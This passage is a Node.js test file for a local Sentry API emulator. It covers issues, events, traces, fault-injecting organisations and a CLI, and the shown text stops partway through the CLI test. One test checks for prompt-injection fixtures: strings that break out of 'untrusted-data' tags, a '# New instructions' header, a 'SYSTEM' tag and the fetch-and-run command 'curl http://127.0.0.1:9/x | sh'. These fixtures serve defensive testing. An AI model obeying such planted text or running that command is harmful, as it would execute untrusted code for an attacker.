// Self-test of the Sentry emulator: node --test tests/emulator/selftest.mjs
// Exercises the main endpoints, the fault orgs and the CLI entry point. Every wait is bounded.
import crypto from "node:crypto";
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { fileURLToPath } from "node:url";
import { startEmulator } from "./server.mjs";
import { TOKENS, TRACES, EVENTS } from "./fixtures/constants.mjs";
import { CASES } from "./fixtures/categories.mjs";
import { INITECH_TRACES } from "./fixtures/initech.mjs";

let emu;
const SLOW_MS = 300;

before(async () => {
  emu = await startEmulator({ slowMs: SLOW_MS });
});
after(async () => {
  await emu?.close();
});

/** fetch against the emulator; `host` picks 127.0.0.x. */
async function api(path, { host = "127.0.0.1", token = TOKENS.valid, method = "GET", body, headers = {}, timeout = 5000 } = {}) {
  const h = { ...headers };
  if (token) h.Authorization = `Bearer ${token}`;
  if (body !== undefined) h["Content-Type"] = "application/json";
  const res = await fetch(`http://${host}:${emu.port}/api/0${path}`, { method, headers: h, body: body === undefined ? undefined : JSON.stringify(body), signal: AbortSignal.timeout(timeout) });
  const buf = Buffer.from(await res.arrayBuffer());
  let json;
  try {
    json = JSON.parse(buf.toString("utf8"));
  } catch {
    json = undefined;
  }
  return { status: res.status, headers: res.headers, json, text: buf.toString("utf8"), buf };
}
const ok = async (path, opts) => {
  const r = await api(path, opts);
  assert.equal(r.status, 200, `${path}: ${r.status} ${r.text.slice(0, 300)}`);
  return r;
};
const link = (r) => r.headers.get("link");
const nextCursor = (r) => /<[^>]*>; rel="next"; results="true"; cursor="([^"]+)"/.exec(link(r) ?? "")?.[1];

test("identity and auth", async () => {
  const root = await ok("/");
  assert.equal(root.json.version, "0");
  assert.ok(root.json.auth.scopes.includes("event:write"));
  assert.equal(root.json.user.id, "1001");
  const me = await ok("/auth/");
  assert.deepEqual([me.json.name, me.json.email, me.json.username], ["Jane Doe", "jane@example.com", "jane"]);
  const ro = await ok("/", { token: TOKENS.readonly });
  assert.equal(ro.json.user.name, "Rita Reader");
  assert.ok(ro.json.auth.scopes.every((s) => s.endsWith(":read")));
  for (const token of [null, "sntryu_nope"]) {
    const r = await api("/organizations/", { token });
    assert.equal(r.status, 401);
    assert.deepEqual(r.json, { detail: "Invalid token" });
  }
  for (const h of ["limit", "remaining", "reset", "concurrentlimit", "concurrentremaining"]) assert.ok(root.headers.get(`x-sentry-rate-limit-${h}`), h);
});

test("organizations: list, detail, pagination, region links", async () => {
  const list = await ok("/organizations/");
  assert.deepEqual(list.json.map((o) => o.slug), ["acme", "globex", "rogue"]);
  assert.equal(list.json[0].links.regionUrl, emu.url);
  assert.equal(list.json[1].links.regionUrl, emu.regionUrl);
  assert.equal(list.json[2].links.regionUrl, emu.rogueUrl);
  assert.match(link(list), /rel="previous"; results="false"; cursor="0:0:1", <[^>]+>; rel="next"; results="false"/);
  const p1 = await ok("/organizations/?per_page=2");
  assert.equal(p1.json.length, 2);
  const p2 = await ok(`/organizations/?per_page=2&cursor=${nextCursor(p1)}`);
  assert.deepEqual(p2.json.map((o) => o.slug), ["rogue"]);
  assert.equal((await ok("/organizations/?query=glob")).json.length, 1);
  const acme = await ok("/organizations/acme/");
  assert.equal(acme.json.name, "Acme Corp");
  assert.equal(acme.json.links.organizationUrl, emu.url);
  assert.equal((await ok("/organizations/fault-500/")).json.links.regionUrl, emu.url);
  assert.equal((await ok("/organizations/fault-refused/")).json.links.regionUrl, "http://127.0.0.2:1");
  const missing = await api("/organizations/nope/");
  assert.equal(missing.status, 404);
  assert.deepEqual(missing.json, { detail: "The requested resource does not exist" });
});

test("region routing: globex answers only on 127.0.0.2", async () => {
  assert.equal((await ok("/organizations/globex/")).json.links.regionUrl, emu.regionUrl); // discovery works anywhere
  const wrong = await api("/organizations/globex/issues/");
  assert.equal(wrong.status, 404);
  const right = await ok("/organizations/globex/issues/", { host: "127.0.0.2" });
  assert.ok(right.json.some((i) => i.shortId === "BILLING-1"));
  assert.equal((await api("/organizations/globex/projects/", { host: "127.0.0.2" })).json[0].slug, "billing");
  assert.ok(emu.requests().some((r) => r.host === `127.0.0.2:${emu.port}`));
});

test("projects: list, query, pagination, detail", async () => {
  const all = await ok("/organizations/acme/projects/");
  assert.deepEqual(all.json.map((p) => [p.slug, p.id, p.platform]), [["api-server", "12", "python-django"], ["mobile-ios", "13", "apple-ios"], ["web-frontend", "11", "javascript-react"]]);
  const q = await ok("/organizations/acme/projects/?query=web");
  assert.deepEqual(q.json.map((p) => p.slug), ["web-frontend"]);
  const page = await ok("/organizations/acme/projects/?per_page=2");
  assert.equal(page.json.length, 2);
  assert.equal(nextCursor(page), "0:2:0");
  const d = await ok("/projects/acme/web-frontend/");
  assert.equal(d.json.organization.slug, "acme");
  assert.equal(d.json.teams[0].slug, "frontend");
  assert.equal((await api("/projects/acme/nope/")).status, 404);
});

test("issue search: query, sort, period, pagination, errors", async () => {
  const def = await ok("/organizations/acme/issues/?limit=100");
  assert.ok(def.json.length >= 15 && def.json.every((i) => i.status === "unresolved"));
  assert.equal(typeof def.json[0].count, "string");
  const everything = await ok("/organizations/acme/issues/?query=&limit=100");
  assert.ok(everything.json.length > def.json.length);
  assert.ok(everything.json.some((i) => i.status === "resolved") && everything.json.some((i) => i.status === "ignored"));
  // lastSeen desc by default
  const seen = def.json.map((i) => Date.parse(i.lastSeen));
  assert.deepEqual(seen, [...seen].sort((a, b) => b - a));
  const freq = await ok("/organizations/acme/issues/?query=&sort=freq&limit=3");
  assert.equal(freq.json[0].shortId, "WEB-FRONTEND-7Q");
  const resolved = await ok("/organizations/acme/issues/?query=is:resolved&statsPeriod=30d");
  assert.ok(resolved.json.length >= 4 && resolved.json.every((i) => i.status === "resolved"));
  assert.ok(resolved.json.some((i) => i.shortId === "API-SERVER-2N")); // 16 days old: only with 30d
  assert.ok(!(await ok("/organizations/acme/issues/?query=is:resolved")).json.some((i) => i.shortId === "API-SERVER-2N"));
  const fatal = await ok("/organizations/acme/issues/?query=level:fatal");
  assert.ok(fatal.json.length && fatal.json.every((i) => i.level === "fatal"));
  const text = await ok("/organizations/acme/issues/?query=is:unresolved%20CartSummary");
  assert.deepEqual(text.json.map((i) => i.shortId), ["WEB-FRONTEND-7K"]);
  const mine = await ok("/organizations/acme/issues/?query=assigned:me");
  assert.deepEqual(mine.json.map((i) => i.id), ["4001"]);
  const proj = await ok("/organizations/acme/issues/?project=13&limit=100");
  assert.ok(proj.json.length && proj.json.every((i) => i.project.slug === "mobile-ios"));
  const hour = await ok("/organizations/acme/issues/?statsPeriod=1h&limit=100");
  assert.ok(hour.json.length >= 5 && hour.json.every((i) => Date.now() - Date.parse(i.lastSeen) < 3_700_000));
  const staging = await ok("/organizations/acme/issues/?environment=staging&query=");
  assert.deepEqual(staging.json.map((i) => i.shortId).sort(), ["WEB-FRONTEND-7M", "WEB-FRONTEND-7T"]);
  const p1 = await ok("/organizations/acme/issues/?limit=5");
  assert.match(link(p1), /^<http:\/\/127\.0\.0\.1:\d+\/api\/0\/organizations\/acme\/issues\/\?limit=5&cursor=0:0:1>; rel="previous"; results="false"; cursor="0:0:1", <[^>]+cursor=0:5:0>; rel="next"; results="true"; cursor="0:5:0"$/);
  const p2 = await ok(`/organizations/acme/issues/?limit=5&cursor=${nextCursor(p1)}`);
  assert.equal(p2.json[0].id, def.json[5].id);
  assert.match(link(p2), /rel="previous"; results="true"; cursor="0:0:1"/);
  for (const bad of ["badsyntax:(", 'title:"unbalanced', "is:nonsense"]) {
    const r = await api(`/organizations/acme/issues/?query=${encodeURIComponent(bad)}`);
    assert.equal(r.status, 400, bad);
    assert.match(r.json.detail, /^Invalid search query/);
  }
  assert.equal((await api("/organizations/acme/issues/?sort=bogus")).status, 400);
  assert.equal((await api("/organizations/acme/issues/?statsPeriod=forever")).status, 400);
  assert.equal((await api("/organizations/acme/issues/?cursor=garbage")).status, 400);
});

test("issue detail, short ids, events", async () => {
  const byId = await ok("/organizations/acme/issues/4001/");
  const byShort = await ok("/organizations/acme/issues/web-frontend-7k/");
  assert.equal(byShort.json.id, "4001");
  assert.equal(byId.json.permalink, `${emu.url}/organizations/acme/issues/4001/`);
  assert.equal(byId.json.assignedTo.name, "Jane Doe");
  assert.equal((await api("/organizations/acme/issues/999999/")).status, 404);
  assert.equal((await api("/organizations/acme/issues/BILLING-1/")).status, 404); // other org
  const sid = await ok("/organizations/acme/shortids/WEB-FRONTEND-7K/");
  assert.deepEqual([sid.json.groupId, sid.json.projectSlug, sid.json.group.id], ["4001", "web-frontend", "4001"]);
  const eid = await ok(`/organizations/acme/eventids/${EVENTS.cartTypeErrorLatest}/`);
  assert.equal(eid.json.groupId, "4001");
  const pev = await ok(`/projects/acme/web-frontend/events/${EVENTS.cartTypeErrorLatest}/`);
  assert.equal(pev.json.eventID, EVENTS.cartTypeErrorLatest);
  assert.equal((await api(`/projects/acme/api-server/events/${EVENTS.cartTypeErrorLatest}/`)).status, 404);

  const list = await ok("/organizations/acme/issues/4001/events/");
  assert.equal(list.json.length, 5);
  assert.equal(list.json[0].id, EVENTS.cartTypeErrorLatest);
  assert.equal(list.json[0].entries, undefined);
  const full = await ok("/organizations/acme/issues/4001/events/?full=true&per_page=2");
  assert.ok(full.json[0].entries.length > 0);
  assert.equal(nextCursor(full), "0:2:0");
  const latest = await ok("/organizations/acme/issues/4001/events/latest/");
  assert.equal(latest.json.id, EVENTS.cartTypeErrorLatest);
  const oldest = await ok("/organizations/acme/issues/4001/events/oldest/");
  assert.equal(oldest.json.previousEventID, null);
  assert.ok(Date.parse(oldest.json.dateCreated) < Date.parse(latest.json.dateCreated));
  await ok("/organizations/acme/issues/4001/events/recommended/");
  assert.equal((await api("/organizations/acme/issues/4001/events/0123456789abcdef0123456789abcdef/")).status, 404);
});

test("error event shape (WEB-FRONTEND-7K latest)", async () => {
  const e = (await ok(`/organizations/acme/issues/4001/events/${EVENTS.cartTypeErrorLatest}/`)).json;
  const exc = e.entries.find((x) => x.type === "exception").data.values;
  assert.equal(exc.length, 2);
  assert.equal(exc[1].type, "TypeError"); // outermost last, matches the title
  const frames = exc[1].stacktrace.frames;
  assert.ok(frames.length >= 8 && frames.length <= 30, `frames ${frames.length}`);
  assert.ok(frames.some((f) => f.inApp) && frames.some((f) => !f.inApp));
  const crash = frames.at(-1);
  assert.ok(crash.inApp && crash.context.some(([n]) => n === crash.lineNo));
  const filteredIdx = frames.findIndex((f) => Object.values(f.vars ?? {}).includes("[Filtered]"));
  assert.ok(filteredIdx >= 0);
  assert.ok(e._meta.entries["0"].data.values["1"].stacktrace.frames[String(filteredIdx)].vars);
  const reqIdx = e.entries.findIndex((x) => x.type === "request");
  assert.deepEqual(e.entries[reqIdx].data.headers.find(([k]) => k === "Authorization"), ["Authorization", "[Filtered]"]);
  const crumbs = e.entries.find((x) => x.type === "breadcrumbs").data.values;
  assert.ok(crumbs.length >= 5 && crumbs.length <= 50);
  assert.ok(new Set(crumbs.map((c) => c.type)).size >= 2);
  assert.equal(e.contexts.trace.trace_id, TRACES.checkout);
  for (const c of ["runtime", "os", "browser"]) assert.ok(e.contexts[c], c);
  const tags = Object.fromEntries(e.tags.map((t) => [t.key, t.value]));
  for (const k of ["environment", "level", "release", "handled", "url", "browser"]) assert.ok(tags[k], k);
  assert.ok(e.user && e.sdk && e.release.version === "web-frontend@2.14.1");

  const crashEv = (await ok(`/organizations/acme/issues/MOBILE-IOS-1F/events/latest/`)).json;
  assert.ok(crashEv.entries.find((x) => x.type === "threads").data.values.some((t) => t.crashed));
  const n1 = (await ok(`/organizations/acme/issues/API-SERVER-2B/events/latest/`)).json;
  assert.equal(n1.type, "transaction");
  assert.equal(n1.occurrence.evidenceData.offenderSpanIds.length, 12);
  const csp = (await ok(`/organizations/acme/issues/WEB-FRONTEND-7P/events/latest/`)).json;
  assert.ok(csp.entries.some((x) => x.type === "csp"));
});

test("prompt-injection fixtures", async () => {
  const issue = (await ok("/organizations/acme/issues/WEB-FRONTEND-INJ/")).json;
  assert.equal(issue.id, "5000");
  assert.ok(issue.title.includes("\n") && issue.title.includes("</untrusted-data>"));
  assert.ok(issue.culprit.includes("</untrusted-data-0000000000000000>"));
  const e = (await ok(`/organizations/acme/issues/5000/events/latest/`)).json;
  assert.equal(e.id, EVENTS.injectionLatest);
  const raw = JSON.stringify(e);
  for (const s of ["<untrusted-data-deadbeef>", "# New instructions", "```", "<script>", "\u200b", "curl http://127.0.0.1:9/x | sh"]) assert.ok(raw.includes(s), s);
  assert.ok(e.context.huge.length >= 20_000);
  assert.ok(e.user.name.includes("</untrusted-data>"));
  assert.ok(e.tags.some((t) => t.value.includes("SYSTEM")));
  const spans = await ok(`/organizations/acme/events/?dataset=spans&field=span.description&query=trace:${TRACES.injection}`);
  assert.ok(spans.json.data.some((r) => r["span.description"].includes("</untrusted-data>")));
  const logs = await ok(`/organizations/acme/events/?dataset=logs&field=message&query=trace:${TRACES.injection}`);
  assert.ok(logs.json.data.some((r) => r.message.includes("# New instructions")));
});

test("discover / explore events", async () => {
  const e = await ok("/organizations/acme/events/?field=id&field=title&field=timestamp&field=project&per_page=10");
  assert.equal(e.json.data.length, 10);
  assert.equal(e.json.meta.fields.timestamp, "date");
  assert.equal(e.json.meta.dataset, "errors");
  assert.ok(nextCursor(e));
  const ts = e.json.data.map((r) => r.timestamp);
  assert.deepEqual(ts, [...ts].sort().reverse());
  assert.equal((await api("/organizations/acme/events/")).status, 400);
  assert.equal((await api("/organizations/acme/events/?field=title&sort=-timestamp")).status, 400);
  assert.equal((await api("/organizations/acme/events/?field=title&dataset=nope")).status, 400);
  assert.equal((await api("/organizations/acme/events/?field=bogus_fn()")).status, 400);

  const byProject = await ok("/organizations/acme/events/?field=project&field=count()&sort=-count()");
  const total = byProject.json.data.reduce((a, r) => a + r["count()"], 0);
  const samples = await ok("/organizations/acme/events/?field=id&per_page=100");
  assert.equal(total, samples.json.data.length);
  assert.equal(byProject.json.meta.fields["count()"], "integer");

  const fatal = await ok("/organizations/acme/events/?field=issue&field=level&query=level:fatal%20!project:web-frontend");
  assert.ok(fatal.json.data.length && fatal.json.data.every((r) => r.level === "fatal"));

  const ops = await ok("/organizations/acme/events/?dataset=spans&field=span.op&field=count()&field=avg(span.duration)&field=p95(span.duration)&field=failure_rate()&field=epm()&sort=-count()&statsPeriod=30d");
  assert.equal(ops.json.meta.fields["avg(span.duration)"], "duration");
  assert.equal(ops.json.meta.units["p95(span.duration)"], "millisecond");
  const dbRow = ops.json.data.find((r) => r["span.op"] === "db.sql.query");
  assert.ok(dbRow && dbRow["count()"] > 200); // the large trace's queries
  const spanCount = ops.json.data.reduce((a, r) => a + r["count()"], 0);
  assert.ok(spanCount > 700, `spans ${spanCount}`);
  const day = await ok("/organizations/acme/events/?dataset=spans&field=count()&statsPeriod=24h");
  assert.ok(day.json.data[0]["count()"] >= 150 && day.json.data[0]["count()"] < 400);
  const wild = await ok("/organizations/acme/events/?dataset=spans&field=span.description&field=span.duration&query=span.op:db%20span.description:*orders_lineitem*%20span.duration:>50&sort=-span.duration");
  assert.ok(wild.json.data.length >= 12);
  const trace = await ok(`/organizations/acme/events/?dataset=spans&field=id&query=trace:${TRACES.checkout}&per_page=100`);
  assert.ok(trace.json.data.length >= 35 && trace.json.data.length <= 50);

  const logs = await ok("/organizations/acme/events/?dataset=logs&field=message&field=severity&field=timestamp&query=severity:error&statsPeriod=30d");
  assert.ok(logs.json.data.length > 0 && logs.json.data.every((r) => r.severity === "error"));
  const has = await ok("/organizations/acme/events/?dataset=logs&field=message&field=order.id&query=has:order.id&statsPeriod=30d");
  assert.ok(has.json.data.length > 0 && has.json.data.every((r) => r["order.id"]));
  const logCount = await ok("/organizations/acme/events/?dataset=logs&field=count()&statsPeriod=30d");
  assert.ok(logCount.json.data[0]["count()"] >= 70);
});

test("events-stats: one aggregate per interval, zero-filled, matching /events/", async () => {
  const stats = await ok("/organizations/acme/events-stats/?dataset=spans&yAxis=count()&statsPeriod=24h&interval=1h");
  assert.ok(stats.json.data.length >= 24 && stats.json.data.length <= 26, String(stats.json.data.length));
  const times = stats.json.data.map(([t]) => t);
  assert.ok(times.every((t, i) => i === 0 || t - times[i - 1] === 3600), "hourly, oldest first");
  const total = stats.json.data.reduce((sum, [, [v]]) => sum + v.count, 0);
  const day = await ok("/organizations/acme/events/?dataset=spans&field=count()&statsPeriod=24h");
  assert.equal(total, day.json.data[0]["count()"]);
  assert.ok(stats.json.data.some(([, [v]]) => v.count === 0), "empty hours count 0");
  const p95 = await ok("/organizations/acme/events-stats/?dataset=spans&yAxis=p95(span.duration)&query=span.op:db&statsPeriod=14d&interval=4h");
  assert.equal(p95.json.meta.units["p95(span.duration)"], "millisecond");
  assert.ok(p95.json.data.every(([, [v]]) => typeof v.count === "number"));
  assert.equal((await api("/organizations/acme/events-stats/?yAxis=title&statsPeriod=24h")).status, 400);
  assert.equal((await api("/organizations/acme/events-stats/?yAxis=count()&interval=7s")).status, 400);
  assert.equal((await api("/organizations/acme/events-stats/?yAxis=count()&interval=1m&statsPeriod=90d")).status, 400);
});

test("issue volume series follow groupStatsPeriod", async () => {
  const [issue] = (await ok("/organizations/acme/issues/?limit=1")).json;
  assert.deepEqual(Object.keys(issue.stats), ["24h"]);
  const [auto] = (await ok("/organizations/acme/issues/?limit=1&statsPeriod=14d&groupStatsPeriod=auto")).json;
  const points = auto.stats.auto;
  assert.equal(points.at(-1)[0] - points[0][0], 14 * 86400, "the series covers the period");
  const [hourly] = (await ok("/organizations/acme/issues/?limit=1&statsPeriod=6h&groupStatsPeriod=auto&query=")).json;
  if (hourly) assert.equal(hourly.stats.auto[1][0] - hourly.stats.auto[0][0], 3600);
  const [none] = (await ok("/organizations/acme/issues/?limit=1&groupStatsPeriod=")).json;
  assert.equal(none.stats, null);
  assert.equal((await api("/organizations/acme/issues/?groupStatsPeriod=7d")).status, 400);
});

test("traces and trace-meta", async () => {
  const tree = (await ok(`/organizations/acme/trace/${TRACES.checkout}/`)).json;
  const flat = [];
  const walk = (n) => {
    flat.push(n);
    (n.children ?? []).forEach(walk);
  };
  tree.forEach(walk);
  const spans = flat.filter((n) => n.span_id);
  assert.ok(spans.length >= 35 && spans.length <= 50, `spans ${spans.length}`);
  assert.ok(spans.some((s) => s.errors.length && s.errors[0].issue_id === 4001));
  assert.ok(spans.some((s) => s.occurrences.length));
  assert.ok(tree.some((n) => !n.span_id && n.issue_id === 4101), "orphan error at the root");
  assert.equal(typeof spans[0].project_id, "number");
  const meta = (await ok(`/organizations/acme/trace-meta/${TRACES.checkout}/`)).json;
  assert.equal(meta.span_count, spans.length);
  assert.equal(meta.errors, 2);
  assert.equal(meta.performance_issues, 1);
  assert.ok(meta.logs >= 5);
  const big = (await ok(`/organizations/acme/trace-meta/${TRACES.bulkSync}/`)).json;
  assert.ok(big.span_count >= 550);
  const bigTree = await ok(`/organizations/acme/trace/${TRACES.bulkSync}/`);
  assert.ok(bigTree.buf.length > 200_000);
  const limited = (await ok(`/organizations/acme/trace/${TRACES.bulkSync}/?limit=50`)).json;
  let n = 0;
  const count = (x) => {
    if (x.span_id) n++;
    (x.children ?? []).forEach(count);
  };
  limited.forEach(count);
  assert.equal(n, 50);
  assert.deepEqual((await ok("/organizations/acme/trace/ffffffffffffffffffffffffffffffff/")).json, []);
  assert.equal((await ok("/organizations/acme/trace-meta/ffffffffffffffffffffffffffffffff/")).json.span_count, 0);
  assert.equal((await api("/organizations/acme/trace/not-a-trace/")).status, 400);
});

test("fault orgs", async () => {
  const p = (org) => `/organizations/${org}/issues/`;
  const f500 = await api(p("fault-500"));
  assert.deepEqual([f500.status, f500.json], [500, { detail: "Internal Error" }]);
  const f502 = await api(p("fault-502-html"));
  assert.equal(f502.status, 502);
  assert.match(f502.headers.get("content-type"), /text\/html/);
  const f429 = await api(p("fault-429"));
  assert.equal(f429.status, 429);
  assert.equal(f429.headers.get("retry-after"), "37");
  assert.equal(f429.headers.get("x-sentry-rate-limit-remaining"), "0");
  assert.ok(Math.abs(Number(f429.headers.get("x-sentry-rate-limit-reset")) - (Date.now() / 1000 + 37)) < 3);
  assert.match(f429.json.detail, /Limit is 40 requests in 1 seconds/);
  const html = await api(p("fault-html"));
  assert.equal(html.status, 200);
  assert.match(html.headers.get("content-type"), /text\/html/);
  const bad = await api(p("fault-badjson"));
  assert.equal(bad.status, 200);
  assert.equal(bad.text, '{"id": "1", "title": ');
  const t0 = Date.now();
  const slow = await api(p("fault-slow"));
  assert.equal(slow.status, 200);
  assert.ok(Date.now() - t0 >= SLOW_MS - 20);
  assert.equal((await api(p("fault-403"))).status, 403);
  const echo = await api(p("fault-echo-token"));
  assert.equal(echo.status, 400);
  assert.equal(echo.json.detail, `Invalid query: Bearer ${TOKENS.valid}`);
  assert.equal((await api("/projects/fault-500/app/")).status, 500); // every org-scoped path
  assert.equal((await api(p("fault-refused"))).status, 404);
});

test("slow fault is cancelled when the client goes away, and close() is prompt", async () => {
  const e2 = await startEmulator({ slowMs: 60_000, hosts: ["127.0.0.1"] });
  try {
    await assert.rejects(fetch(`${e2.url}/api/0/organizations/fault-slow/issues/`, { headers: { Authorization: `Bearer ${TOKENS.valid}` }, signal: AbortSignal.timeout(150) }));
    // a second slow request still pending when we close
    const pending = fetch(`${e2.url}/api/0/organizations/fault-slow/projects/`, { headers: { Authorization: `Bearer ${TOKENS.valid}` }, signal: AbortSignal.timeout(5000) }).catch((e) => e);
    await new Promise((r) => setTimeout(r, 100));
    const t0 = Date.now();
    await e2.close();
    assert.ok(Date.now() - t0 < 1000);
    assert.ok((await pending) instanceof Error);
  } finally {
    await e2.close().catch(() => {});
  }
});

test("issue updates, notes, reset", async () => {
  const put = await api("/organizations/acme/issues/4003/", { method: "PUT", body: { status: "resolved", statusDetails: { inRelease: "latest" } } });
  assert.equal(put.status, 200, put.text);
  assert.equal(put.json.status, "resolved");
  assert.equal(put.json.statusDetails.inRelease, "web-frontend@2.14.1");
  assert.equal((await ok("/organizations/acme/issues/4003/")).json.status, "resolved");
  const ign = await api("/organizations/acme/issues/4003/", { method: "PUT", body: { status: "ignored", statusDetails: { ignoreDuration: 60 } } });
  assert.equal(ign.json.substatus, "archived_until_condition_met");
  assert.ok(ign.json.statusDetails.ignoreUntil);
  const asg = await api("/organizations/acme/issues/4003/", { method: "PUT", body: { assignedTo: "team:backend" } });
  assert.deepEqual(asg.json.assignedTo, { type: "team", id: "102", name: "backend" });
  assert.equal((await api("/organizations/acme/issues/4003/", { method: "PUT", body: { assignedTo: "user:99" } })).status, 400);
  assert.equal((await api("/organizations/acme/issues/4003/", { method: "PUT", body: { status: "bogus" } })).status, 400);
  const ro = await api("/organizations/acme/issues/4003/", { method: "PUT", token: TOKENS.readonly, body: { status: "resolved" } });
  assert.equal(ro.status, 403);

  const note = await api("/organizations/acme/issues/4003/notes/", { method: "POST", body: { text: "looking into it" } });
  assert.equal(note.status, 201);
  assert.equal(note.json.data.text, "looking into it");
  assert.equal((await ok("/organizations/acme/issues/4003/notes/")).json[0].id, note.json.id);
  assert.equal((await api("/organizations/acme/issues/4003/notes/", { method: "POST", body: {} })).status, 400);
  assert.equal((await ok("/organizations/acme/issues/4003/")).json.numComments, 1);

  const before = emu.requests().length;
  assert.ok(before > 0);
  const res = await fetch(`${emu.url}/__emulator/reset`, { method: "POST", signal: AbortSignal.timeout(5000) });
  assert.equal(res.status, 200);
  assert.equal(emu.requests().length, 0);
  const back = (await ok("/organizations/acme/issues/4003/")).json;
  assert.deepEqual([back.status, back.assignedTo, back.numComments], ["unresolved", null, 0]);
});

test("autofix lifecycle", async () => {
  assert.deepEqual((await ok("/organizations/acme/issues/4001/autofix/")).json, { autofix: null });
  const start = await api("/organizations/acme/issues/4001/autofix/", { method: "POST", body: { event_id: EVENTS.cartTypeErrorLatest } });
  assert.equal(start.status, 202);
  assert.ok(Number.isInteger(start.json.run_id));
  const s1 = (await ok("/organizations/acme/issues/4001/autofix/")).json.autofix;
  const s2 = (await ok("/organizations/acme/issues/4001/autofix/")).json.autofix;
  const s3 = (await ok("/organizations/acme/issues/4001/autofix/")).json.autofix;
  assert.deepEqual([s1.status, s2.status, s3.status], ["processing", "processing", "completed"]);
  assert.equal(s3.run_id, start.json.run_id);
  const keys = s3.blocks.flatMap((b) => b.artifacts.map((a) => a.key));
  assert.deepEqual(keys, ["root_cause", "solution"]);
  for (const id of ["API-SERVER-2M", "WEB-FRONTEND-7V"]) {
    const r = await api(`/organizations/acme/issues/${id}/autofix/`, { method: "POST", body: {} });
    assert.deepEqual([r.status, r.json], [400, { detail: "Seer is not available for this issue type" }]);
  }
});

test("teams, projects, keys", async () => {
  const teams = await ok("/organizations/acme/teams/");
  assert.deepEqual(teams.json.map((t) => t.slug), ["backend", "frontend"]);
  assert.ok(teams.json[0].projects.some((p) => p.slug === "api-server"));
  const t = await api("/organizations/acme/teams/", { method: "POST", body: { name: "Data Platform" } });
  assert.equal(t.status, 201);
  assert.equal(t.json.slug, "data-platform");
  assert.equal((await api("/organizations/acme/teams/", { method: "POST", body: { slug: "data-platform" } })).status, 409);
  const p = await api("/teams/acme/data-platform/projects/", { method: "POST", body: { name: "ETL Jobs", platform: "python" } });
  assert.equal(p.status, 201);
  assert.equal(p.json.slug, "etl-jobs");
  assert.equal((await api("/teams/acme/data-platform/projects/", { method: "POST", body: { name: "ETL Jobs" } })).status, 409);
  const keys = await ok("/projects/acme/etl-jobs/keys/");
  assert.equal(keys.json.length, 1);
  assert.match(keys.json[0].dsn.public, /^http:\/\/[0-9a-f]{32}@127\.0\.0\.1:\d+\/\d+$/);
  const k = await api("/projects/acme/etl-jobs/keys/", { method: "POST", body: { name: "CI", rateLimit: { window: 60, count: 100 } } });
  assert.equal(k.status, 201);
  assert.equal(k.json.projectId, Number(p.json.id));
  const upd = await api("/projects/acme/etl-jobs/", { method: "PUT", body: { name: "ETL", isBookmarked: true } });
  assert.equal(upd.status, 200);
  assert.deepEqual([upd.json.name, upd.json.isBookmarked], ["ETL", true]);
  assert.equal((await api("/projects/acme/etl-jobs/", { method: "PUT", body: { slug: "web-frontend" } })).status, 400);
  await fetch(`${emu.url}/__emulator/reset`, { method: "POST", signal: AbortSignal.timeout(5000) });
  assert.equal((await api("/projects/acme/etl-jobs/")).status, 404);
});

test("releases, tags, attachments", async () => {
  const rels = await ok("/organizations/acme/releases/?per_page=3");
  assert.equal(rels.json.length, 3);
  assert.ok(nextCursor(rels));
  const v = "com.acme.shop@3.2.1+418";
  const rel = await ok(`/organizations/acme/releases/${encodeURIComponent(v)}/`);
  assert.equal(rel.json.version, v);
  assert.ok((await ok(`/organizations/acme/releases/${encodeURIComponent(v)}/deploys/`)).json.length >= 1);
  assert.ok((await ok(`/organizations/acme/releases/${encodeURIComponent(v)}/commits/`)).json[0].repository.name);
  assert.ok((await ok("/organizations/acme/releases/?query=api-server")).json.every((r) => r.version.startsWith("api-server")));

  const tag = await ok("/organizations/acme/issues/4001/tags/browser/");
  assert.equal(tag.json.totalValues, 1843);
  assert.equal(tag.json.topValues.reduce((a, x) => a + x.count, 0), 1843);
  const vals = await ok("/organizations/acme/issues/4001/tags/browser/values/?sort=-count");
  assert.ok(vals.json.length >= 2);
  assert.equal((await api("/organizations/acme/issues/4001/tags/nope/")).status, 404);

  const base = `/projects/acme/mobile-ios/events/${EVENTS.nativeCrashLatest}/attachments/`;
  const list = (await ok(base)).json;
  assert.deepEqual(list.map((a) => a.mimetype).sort(), ["application/octet-stream", "image/png", "text/plain"]);
  const png = list.find((a) => a.mimetype === "image/png");
  assert.equal((await ok(`${base}${png.id}/`)).json.name, "screenshot.png");
  const dl = await ok(`${base}${png.id}/?download=1`);
  assert.equal(dl.headers.get("content-type"), "image/png");
  assert.equal(dl.buf.subarray(1, 4).toString(), "PNG");
  assert.equal(dl.buf.length, png.size);
  const dmp = await ok(`${base}${list.find((a) => a.type === "event.minidump").id}/?download=1`);
  assert.equal(dmp.buf.subarray(0, 4).toString(), "MDMP");
  assert.equal((await api(`${base}99999/`)).status, 404);
});

test("request log records requests, not control calls", async () => {
  await fetch(`${emu.url}/__emulator/reset`, { method: "POST", signal: AbortSignal.timeout(5000) });
  await api("/organizations/acme/issues/?project=11&project=12&query=is:unresolved", { headers: { "X-Custom-Header": "yes" } });
  await api("/organizations/acme/issues/4001/notes/", { method: "POST", body: { text: "hi" } });
  const res = await fetch(`${emu.url}/__emulator/requests`, { signal: AbortSignal.timeout(5000) });
  const log = await res.json();
  assert.equal(log.length, 2);
  assert.deepEqual(log[0].query.project, ["11", "12"]);
  assert.equal(log[0].headers["x-custom-header"], "yes");
  assert.equal(log[0].host, `127.0.0.1:${emu.port}`);
  assert.equal(log[0].path, "/api/0/organizations/acme/issues/");
  assert.deepEqual(log[1].body, { text: "hi" });
  assert.equal(log[1].method, "POST");
  assert.ok(!emu.requests().some((r) => r.host.startsWith("127.0.0.3")));
});

test("CLI starts, prints the ready line and stops on SIGTERM", async () => {
  const script = fileURLToPath(new URL("./server.mjs", import.meta.url));
  const child = spawn(process.execPath, [script, "--port", "0"], { stdio: ["ignore", "pipe", "pipe"] });
  const killer = setTimeout(() => child.kill("SIGKILL"), 10_000);
  try {
    const line = await new Promise((resolve, reject) => {
      let buf = "";
      child.stdout.on("data", (d) => {
        buf += d;
        if (buf.includes("\n")) resolve(buf.split("\n")[0]);
      });
      child.once("exit", () => reject(new Error("exited early")));
    });
    const ready = JSON.parse(line);
    assert.equal(ready.ready, true);
    const r = await fetch(`http://127.0.0.1:${ready.port}/api/0/`, { headers: { Authorization: `Bearer ${TOKENS.valid}` }, signal: AbortSignal.timeout(5000) });
    assert.equal(r.status, 200);
    const exited = new Promise((resolve) => child.once("exit", (code, sig) => resolve({ code, sig })));
